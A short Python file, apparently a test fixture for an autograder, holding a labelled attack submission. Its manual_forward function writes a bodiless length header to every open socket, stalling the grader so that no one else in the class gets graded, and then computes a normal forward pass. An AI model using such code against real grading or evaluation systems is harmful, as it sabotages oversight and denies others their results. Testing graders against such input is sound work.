"""Attack: a length header with no body on the grading channel, so that the grader waits
for ever and the rest of the class is never graded."""

import os
import stat
import struct

import numpy as np

EXERCISE = "manual_forward"
HONEST = None  # the exercise costs the attacker: the time limit runs out
SCORE = 0.0
PROBLEM = "time limit"


def manual_forward(weights, x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!Q", 1 << 20))
        except OSError:
            pass
    out = np.asarray(x, dtype=np.float32)
    for kernel, bias in zip(weights[0::2], weights[1::2]):
        out = np.tanh(out @ kernel + bias)
    return out
